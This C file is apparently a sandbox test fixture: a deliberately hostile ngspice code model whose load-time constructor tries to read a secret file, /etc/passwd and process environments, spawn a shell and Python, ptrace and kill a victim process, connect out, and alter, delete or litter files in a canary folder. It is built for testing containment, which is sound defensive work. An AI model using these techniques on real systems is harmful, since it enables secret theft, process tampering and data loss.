/* A code model that attacks: ngspice loads it with `codemodel`, and its constructor runs at once.
 *
 * Everything it does is harmless outside a test: it touches only the canary folder, the victim
 * process and the listener the test made. Compiled by the test with
 *   -DSECRET="..." -DCANARIES="..." -DPYTHON="..." -DVICTIM=pid -DPORT=port
 * Every line it prints begins with HOSTILE; what got out is seen by the test from outside.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/time.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static void say(const char *what, long result) {
    printf("HOSTILE %s %s\n", what, result < 0 ? strerror(errno) : "done");
    fflush(stdout);
}

static void touch(const char *name) {
    char path[4096];
    snprintf(path, sizeof path, "%s/%s", CANARIES, name);
    int fd = open(path, O_WRONLY | O_CREAT, 0644);
    say(name, fd);
    if (fd >= 0) close(fd);
}

static void show_file(const char *what, const char *path) {
    char text[65536];
    int fd = open(path, O_RDONLY);
    long count = fd < 0 ? -1 : read(fd, text, sizeof text - 1);
    say(what, count);
    for (long i = 0; i < count; i++) putchar(text[i] ? text[i] : ' ');
    putchar('\n');
    if (fd >= 0) close(fd);
}

static void run_shell(void) {
    say("shell", system("/bin/sh -c 'echo x > " CANARIES "/shell'") == 0 ? 0 : -1);
}

static void run_python(void) {
    pid_t child = fork();
    say("fork", child);
    if (child == 0) {
        touch("forked");
        execl(PYTHON, PYTHON, "-I", "-S", "-c",
              "print('HOSTILE python-ran', flush=True); open('" CANARIES "/python', 'w')", (char *)0);
        _exit(1);
    }
    if (child > 0) waitpid(child, 0, 0);
}

static void leave_a_process(void) {
    pid_t child = fork();
    if (child == 0) {
        setsid();
        for (int i = 0; i < 100; i++) usleep(20000);
        touch("outlived");
        _exit(0);
    }
}

static void connect_out(void) {
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(PORT)};
    to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    int s = socket(AF_INET, SOCK_STREAM, 0);
    say("connect", s < 0 ? -1 : connect(s, (struct sockaddr *)&to, sizeof to));
    if (s >= 0) close(s);
}

static void harm_the_victim(void) {
    char path[64], word[8];
    snprintf(path, sizeof path, "/proc/%d/environ", VICTIM);
    show_file("victim-environment", path);
    say("ptrace", ptrace(PTRACE_SEIZE, VICTIM, 0, 0));
    struct iovec here = {word, sizeof word}, there = {(void *)0x400000, sizeof word};
    say("read-memory", process_vm_readv(VICTIM, &here, 1, &there, 1, 0));
    say("kill", kill(VICTIM, SIGTERM));
}

static void change_rights(void) {
    struct timeval long_ago[2] = {{1, 0}, {1, 0}};
    say("chmod", chmod(CANARIES "/kept", 0777));
    say("truncate", truncate(CANARIES "/kept", 0));
    say("utimes", utimes(CANARIES "/kept", long_ago));
    say("unlink", unlink(CANARIES "/removable"));
    say("rename", rename(CANARIES "/movable", CANARIES "/moved"));
}

static void litter(void) {
    say("symlink", symlink(SECRET, "link.raw"));
    say("symlink-folder", symlink(CANARIES, "folder"));
    say("hardlink", link(SECRET, "hard.raw"));
    say("fifo", mkfifo("fifo.raw", 0600));
    struct sockaddr_un name = {.sun_family = AF_UNIX, .sun_path = "socket.raw"};
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    say("socket-file", s < 0 ? -1 : bind(s, (struct sockaddr *)&name, sizeof name));
    int made = mkdir("unreadable", 0700);
    say("mkdir", made);
    if (made == 0) {
        mkdir("unreadable/inner", 0700);
        close(open("unreadable/inner/file", O_WRONLY | O_CREAT, 0600));
        symlink(CANARIES, "unreadable/inner/out");
        chmod("unreadable/inner", 0);
        chmod("unreadable", 0);
    }
    mkdir("deep", 0700);
    if (chdir("deep") == 0) {
        int depth = 0;
        while (depth < 2000 && mkdir("deep", 0700) == 0 && chdir("deep") == 0) depth++;
        printf("HOSTILE depth %d\n", depth);
        /* Back to where ngspice expects to be: its own folder is all that is left as HOME. */
        if (chdir(getenv("HOME")) != 0) say("chdir-home", -1);
    }
}

static void run_from_memory(void) {
    int fd = memfd_create("program", 0);
    say("memfd", fd);
    if (fd >= 0) close(fd);
}

__attribute__((constructor)) static void attack(void) {
    puts("HOSTILE loaded");
    show_file("read-secret", SECRET);
    show_file("read-passwd", "/etc/passwd");
    show_file("init-environment", "/proc/1/environ");
    touch("written");
    run_shell();
    run_python();
    leave_a_process();
    connect_out();
    run_from_memory();
    change_rights();
    litter();
    harm_the_victim();
    puts("HOSTILE end");
    fflush(stdout);
}
